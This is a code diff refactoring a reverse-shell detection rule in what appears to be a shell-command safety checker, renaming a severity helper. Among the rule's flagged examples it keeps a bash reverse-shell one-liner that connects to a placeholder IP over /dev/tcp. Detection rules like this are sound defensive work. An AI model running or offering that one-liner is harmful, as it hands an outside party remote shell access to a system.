@@ -1,6 +1,7 @@
 import type { Severity } from '@ase/schemas'
 import { shellCall } from '../../examples.ts'
-import { hitsByCall, worst } from '../../matching/hits.ts'
+import { hitsByCall } from '../../matching/hits.ts'
+import { worstSeverity } from '../../severity-rank.ts'
 import type { Rule } from '../../rule.ts'
 import type { Command, Line } from '../../shell/command.ts'
 import { interpreters, shells } from '../../shell/interpreters.ts'
@@ -36,7 +37,7 @@ export const reverseShell: Rule = {
     },
     ...windowsScripts('REVERSE_SHELL'),
   ],
-  match: (reading) => hitsByCall(reading, (call) => worst(call.codes().map(judgeCode))),
+  match: (reading) => hitsByCall(reading, (call) => worstSeverity(call.codes().map(judgeCode))),
   examples: {
     flags: [
       shellCall('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
